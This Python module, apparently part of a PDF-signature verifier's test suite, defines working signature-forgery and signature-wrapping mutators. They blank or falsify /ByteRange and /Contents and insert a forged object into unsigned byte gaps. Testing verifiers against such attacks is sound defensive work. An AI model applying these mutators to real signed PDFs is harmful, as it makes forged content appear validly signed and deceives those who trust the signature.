"""Universal forgery (USF) and wrapping (SWA): what a signature is said to cover is changed."""

import re

from tests.attacker.grund import (
    BYTERANGE,
    Attack,
    forfalskat,
)


def _sist_av(data: bytes, monster: re.Pattern, nytt: bytes) -> bytes:
    """Overwrite the last match with ``nytt``, padded so that nothing moves."""
    traff = list(monster.finditer(data))[-1]
    if len(nytt) > len(traff[0]):
        raise ValueError("Det nya får inte plats.")
    return data[: traff.start()] + nytt.ljust(len(traff[0])) + data[traff.end() :]


def _usf_omfang(nytt: bytes) -> Attack:
    return lambda data: _sist_av(data, BYTERANGE, nytt)


def _usf_varde(nytt: bytes) -> Attack:
    return lambda data: _sist_av(data, re.compile(rb"/Contents\s*<[0-9A-Fa-f]{2000,}>"), nytt)


USF: dict[str, Attack] = {
    "usf_inget_omfang": _usf_omfang(b""),
    "usf_tomt_omfang": _usf_omfang(b"/ByteRange null"),
    "usf_omfang_av_nollor": _usf_omfang(b"/ByteRange [0 0 0 0]"),
    "usf_omfang_under_noll": _usf_omfang(b"/ByteRange [0 -1 -1 0]"),
    "usf_omfang_av_en_del": _usf_omfang(b"/ByteRange [0 9]"),
    "usf_inget_varde": _usf_varde(b""),
    "usf_varde_null": _usf_varde(b"/Contents null"),
    "usf_tomt_varde": _usf_varde(b"/Contents <>"),
    "usf_varde_noll": _usf_varde(b"/Contents <00>"),
}


def swa_flyttad_del(data: bytes) -> bytes:
    """Move the second signed part down and put a forged object in the gap that no digest covers."""
    traff = list(BYTERANGE.finditer(data))[-1]
    a, b, c, d = (int(n) for n in traff.groups())
    instick = b"\n" + forfalskat(data)[1]
    nytt = b"/ByteRange [%d %d %d %d" % (a, b, c + len(instick), d)
    nytt = nytt.ljust(len(traff[0]) - 1) + b"]"
    if len(nytt) != len(traff[0]):
        raise ValueError("Det nya omfånget får inte plats.")
    data = data[: traff.start()] + nytt + data[traff.end() :]
    return data[:c] + instick + data[c:]


def swa_utfylld(data: bytes) -> bytes:
    """Put the forged object in the padding of the signature's own value, where nothing is signed.

    The value is cut, so that the gap holds a string, the object, and what is left of the padding.
    """
    traff = list(BYTERANGE.finditer(data))[-1]
    _, b, c, _ = (int(n) for n in traff.groups())
    kropp = forfalskat(data)[1]
    varde = data[b:c]
    kort = varde[1:].rstrip(b">").rstrip(b"0")
    kort += b"0" * (len(kort) % 2)
    rest = len(varde) - len(kort) - 2 - len(kropp) - 2
    if rest < 0:
        return swa_flyttad_del(data)
    return data[:b] + b"<" + kort + b">" + b"\n" + kropp + b" " * (rest + 1) + data[c:]
